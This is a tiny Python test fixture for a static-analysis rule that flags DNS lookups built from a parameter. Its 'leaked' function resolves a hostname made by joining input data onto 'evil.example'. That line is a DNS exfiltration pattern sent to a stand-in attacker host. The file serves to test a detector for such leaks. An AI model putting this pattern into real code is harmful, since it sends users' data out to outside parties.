import socket


def leaked(data: str) -> str:
    # ruleid: name-lookup-from-parameter
    return socket.gethostbyname(data + ".evil.example")


def fixed() -> str:
    # ok: name-lookup-from-parameter
    return socket.gethostbyname("api.example.com")
